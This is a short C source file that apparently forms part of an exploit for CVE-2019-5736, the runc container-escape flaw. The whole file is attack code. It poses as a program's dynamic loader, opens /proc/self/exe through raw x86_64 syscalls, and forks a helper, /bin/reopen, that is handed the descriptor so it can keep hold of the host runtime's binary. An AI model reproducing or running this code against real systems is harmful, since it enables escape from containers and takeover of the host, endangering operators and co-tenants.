/* Stands where programs look for their loader (PT_INTERP): runs inside whatever dynamic program is
   executed, and tries to keep hold of that program's file (CVE-2019-5736). */
static long call(long number, long a, long b, long c, long d) {
    long result;
#if defined(__x86_64__)
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10)
                     : "rcx", "r11", "memory");
#else
#error "written for x86_64"
#endif
    return result;
}

enum { OPENAT = 257, EXECVE = 59, EXIT = 60, FORK = 57, WRITE = 1, HERE = -100 };

void _start(void) {
    static char number[] = "0", program[] = "/bin/reopen", failed[] = "the program cannot be opened\n";
    char *argv[] = {program, number, 0}, *environment[] = {0};
    long fd = call(OPENAT, HERE, (long)"/proc/self/exe", 0, 0);
    if (fd < 0 || fd > 9) {
        call(WRITE, 1, (long)failed, sizeof failed - 1, 0);
        call(EXIT, 1, 0, 0, 0);
    }
    number[0] = (char)('0' + fd);
    if (call(FORK, 0, 0, 0, 0) == 0) call(EXECVE, (long)program, (long)argv, (long)environment, 0);
    call(EXIT, 0, 0, 0, 0);
}
